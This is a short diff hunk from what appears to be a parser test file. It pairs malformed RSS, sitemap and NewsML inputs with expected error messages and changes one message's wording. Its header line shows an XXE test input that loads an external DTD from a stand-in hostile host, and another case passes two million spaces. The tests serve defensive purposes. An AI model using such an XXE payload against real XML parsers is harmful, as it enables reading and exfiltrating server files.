@@ -188,7 +188,7 @@ PARAMETER = '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://hostile.example/x.dtd"> 
         (" " * 2_000_000, "no root element|not well-formed XML"),
         ("<rss><channel><item><title>Il pleut</title></item><item>", "the articles before it were read"),
         ("<rss><channel><item><title>Il pleut</title></item><item></wrong></channel>", "not well-formed XML: .*line 1.*; the articles before it were read"),
-        ("<rss><channel><title>A</title></channel></rss>", "holds no article"),
+        ("<rss><channel><title>A</title></channel></rss>", "contains no article"),
         ("<urlset><url/></urlset>", "root element urlset, which is read only for sitemaps of news"),
         ("<NewsML><NewsItem/></NewsML>", "neither a text nor a title"),
         ("", "is empty"),
